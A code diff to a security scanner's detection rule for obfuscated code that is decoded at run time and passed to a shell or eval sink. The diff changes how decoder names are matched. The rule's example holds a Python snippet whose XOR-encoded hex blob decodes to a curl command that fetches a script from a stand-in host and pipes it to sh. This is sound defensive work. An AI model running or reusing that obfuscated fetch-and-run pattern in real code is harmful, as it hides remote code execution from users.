@@ -1,10 +1,8 @@
-import { codeFactsOf, SHELL_CALLEE } from '../../code/code-facts';
+import { codeFactsOf, DECODER_TRIGGERS, SHELL_CALLEE } from '../../code/code-facts';
 import type { Rule, RuleHit } from '../rule.types';
 
 /** Calls that run their argument as code: interpreters' eval/exec, PowerShell's Invoke-Expression. */
 const CODE_SINK = /(?:^|\.)(?:eval|exec|compile|function|invoke-expression|iex)$/;
-/** A decoder named in the call itself: the one-line form BW-CE-001 reads from the text. */
-const DECODER_IN_CALL = /b64decode|b32decode|b85decode|fromhex|unhexlify|frombase64string|atob\(|decompress|codecs\.decode|["']base64["']|inflatesync|gunzipsync/i;
 const DECODED_SHOWN = 160;
 
 /**
@@ -27,7 +25,7 @@ export const obfDecodedAtRunTimeRule: Rule = {
     example: '```python\nimport subprocess\nKEY = 0x21\nBLOB = "4254534d010c4752720149555551521b0e0e545145405544520f4459404c514d440e480f5249015d015249"\n\ndef unpack(h):\n    return "".join(chr(b ^ KEY) for b in bytes.fromhex(h))\n\nsubprocess.call(unpack(BLOB), shell=True)\n```',
     example_path: 'scripts/run.py',
   },
-  regexes: [CODE_SINK, DECODER_IN_CALL],
+  regexes: [CODE_SINK],
   match(ctx) {
     const hits: RuleHit[] = [];
     const seen = new Set<number>();
@@ -35,7 +33,8 @@ export const obfDecodedAtRunTimeRule: Rule = {
       if (!call.decoded || seen.has(call.line)) continue;
       if (!SHELL_CALLEE.test(call.name) && !CODE_SINK.test(call.name)) continue;
       // Decoded and run in one expression is BW-CE-001's; here the two are apart.
-      if (DECODER_IN_CALL.test(call.text)) continue;
+      const text = call.text.toLowerCase();
+      if (DECODER_TRIGGERS.some((d) => text.includes(d))) continue;
       seen.add(call.line);
       const shown = call.decoded.length > DECODED_SHOWN ? `${call.decoded.slice(0, DECODED_SHOWN)}…` : call.decoded;
       hits.push({ line: call.line, evidence: call.text, message: `Runs text decoded at run time: ${shown}` });
